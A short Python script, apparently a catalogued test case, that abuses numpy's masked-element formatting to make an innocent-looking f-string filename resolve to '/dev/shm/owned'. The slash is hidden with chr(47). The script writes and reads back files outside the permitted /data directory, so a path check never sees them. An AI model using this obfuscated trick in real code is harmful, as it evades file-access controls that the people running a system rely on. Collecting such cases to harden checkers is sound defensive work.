# source: numpy 1.24 numpy/ma/core.py: a masked element of a masked array is np.ma.masked, whose __format__ drops the spec and gives str(masked_print_option._display), set by set_display
# family: a path f-string field "{i:03d}" whose value ignores the integer spec (variant: the masked element of an array, a writer, np.savetxt and DataFrame.to_csv)
# goal: writes files at absolute paths outside /data that the check never read (/dev/shm/...), then reads one back through the same trick
import numpy as np
import pandas as pd

i = np.ma.array([7], mask=[True])[0]
np.ma.masked_print_option.set_display("".join([chr(47), "dev", chr(47), "shm", chr(47), "owned"]))
df = pd.DataFrame({"a": [1.0, 2.0]})
df.to_csv(f"{i:03d}.csv", index=False)
np.savetxt(f"{i:03d}.txt", np.arange(3.0))
print("wrote", f"{i:03d}.csv", "and", f"{i:03d}.txt")
print(pd.read_csv(f"{i:03d}.csv").to_string())
print(np.loadtxt(f"{i:03d}.txt"))
